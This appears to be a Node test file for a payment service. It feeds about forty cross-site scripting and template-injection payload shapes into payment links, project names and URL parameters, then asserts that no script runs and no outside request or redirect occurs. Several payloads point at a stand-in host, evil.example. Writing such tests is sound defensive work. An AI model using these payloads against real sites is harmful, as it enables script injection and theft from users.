// Injection attempts (markup, script, URLs) where a payer's page shows or accepts text.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { shareBrowser } from '../browser.ts'
import { countRounds } from '../counts.ts'
import { addPayProject, Payer, toLink, toTransactionId } from '../payer.ts'
import type { PayProject } from '../payer.ts'
import { startPayerWorld } from './payer-world.ts'
import type { PayerWorld } from './payer-world.ts'
import { watchPage } from './watched-page.ts'

const RUN = 'window.executed=1;alert(1)'

const SHAPES: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `</title><script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `</style><script>${run}</script>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `"><svg onload="${run}">`,
  (run) => `'><svg/onload='${run}'>`,
  (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  (run) => `<details open ontoggle="${run}">`,
  (run) => `<body onload="${run}">`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<a href="javascript:${run}" autofocus>x</a>`,
  (run) => `" autofocus onfocus="${run}" x="`,
  (run) => `' autofocus onfocus='${run}' x='`,
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt&colon;${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<base href="//evil.example/">${run}`,
  (run) => `<form action="https://evil.example"><button>${run}`,
  (run) => `<link rel=stylesheet href="//evil.example/x.css">${run}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `'-${run}-'`,
  (run) => `"+${run}+"`,
  (run) => `*/${run}//`,
  (run) => `--><script>${run}</script><!--`,
  (run) => `]]><script>${run}</script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `\\u003cscript\\u003e${run}`,
  (run) => `＜script＞${run}＜/script＞`,
  (run) => `<math><mi xlink:href="javascript:${run}">`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<style>@import'//evil.example'</style>${run}`,
  (run) => `<object data="javascript:${run}">`,
  (run) => `//evil.example/${run}`,
]

function makePayloads(limit: number): string[] {
  const variants: readonly ((text: string) => string)[] = [
    (text) => text,
    (text) => text.toUpperCase(),
    (text) => text.replaceAll(' ', '/'),
    (text) => text.replaceAll('<', '<<'),
    (text) => `x" y='z ${text}`,
  ]
  return variants.flatMap((vary) => SHAPES.map((shape) => vary(shape(RUN)))).slice(0, limit)
}

const world = await startPayerWorld()
const browser = await shareBrowser()

/** URLs of pages that show or ignore the payload. */
function toSinks(world: PayerWorld, shop: PayProject, payload: string): string[] {
  const text = encodeURIComponent(payload)
  return [
    // The link is signed by the merchant.
    toLink(shop, { data: payload.slice(0, 64), signed: true }),
    toLink(shop, { data: 'x'.repeat(65), customId: payload.slice(0, 64).trim(), signed: true }),
    // The link is unsigned, or the payload is in unknown or invalid parameters.
    `${toLink(shop, { data: payload, customId: payload.slice(0, 128).trim() })}&again=${text}&utm_source=${text}&x${text}=1`,
    `${toLink(world.shop)}&lang=${text}`,
    `/pay?amount=${text}&project=${text}&data=${text}&mode=${text}&exp=${text}&sig=${text}`,
    `/pay/successful?status=${text}&transactionId=${text}&mode=${text}`,
    `/pay/${text.slice(0, 190)}`,
    `/pay/${toTransactionId('01a1dd37-308c-7395-a76c-256787d947e0')}?return=${text}&lang=${text}`,
  ]
}

test('no text in a link or a name runs as script, loads anything or redirects', async (t) => {
  const payloads = makePayloads(countRounds('browserPayloads', t))
  const watched = await watchPage(browser)
  const { page } = watched
  let pages = 0
  for (const payload of payloads) {
    // The project is written directly to the table, because the API refuses some of these names.
    const shop = await addPayProject(world.service.deps, {
      name: payload.slice(0, 80),
      resultUrl: `${world.shopUrl}/x`,
    })
    for (const path of toSinks(world, shop, payload)) {
      watched.forget()
      await page.goto(world.normal.baseUrl + path)
      pages += 1
      const executed = await page.evaluate(() => 'executed' in window)
      assert.equal(executed, false, path)
      assert.deepEqual(watched.faults, [], path)
      assert.deepEqual(await watched.violations(), [], path)
      assert.equal(watched.requests.length, 1, `${path}\n${watched.requests.join('\n')}`)
      assert.equal(new URL(page.url()).origin, world.normal.baseUrl)
    }
    // The pages of a payment show the payload too.
    const toPayLink = (amount: string) => {
      const customId = `${amount} ${payload.slice(0, 64)}`.trim()
      return toLink(shop, { amount, data: payload.slice(0, 64), customId, signed: true })
    }
    const assertHarmless = async (caseName: string) => {
      assert.equal(await page.evaluate(() => 'executed' in window), false, `${caseName} ${payload}`)
      assert.deepEqual(watched.faults, [], `${caseName} ${payload}`)
      assert.deepEqual(await watched.violations(), [], `${caseName} ${payload}`)
      pages += 1
    }
    watched.forget()
    await page.goto(world.normal.baseUrl + toPayLink('4000'))
    await page.click('main form button')
    await page.waitForSelector('[role=alert]')
    await assertHarmless('declined')
    // The other two payments are made without the browser, because the browser has already shown a pay page with this payload.
    for (const [caseName, amount, query, shown] of [
      ['state', '4003', '?return=1', 'main [role=status]'],
      ['receipt', '1500', '', '#print:visible'],
    ] as const) {
      const payer = new Payer(world.service.app)
      const { location } = await payer.pay(toPayLink(amount))
      await page
        .context()
        .addCookies([...payer.jar].map(([name, value]) => ({ name, value, url: world.normal.baseUrl })))
      watched.forget()
      await page.goto(`${world.normal.baseUrl}/pay/${toTransactionId(location)}${query}`)
      await page.waitForSelector(shown)
      await assertHarmless(caseName)
    }
  }
  t.diagnostic(`${payloads.length} payloads, ${pages} pages, 0 executions`)
  await watched.close()
})
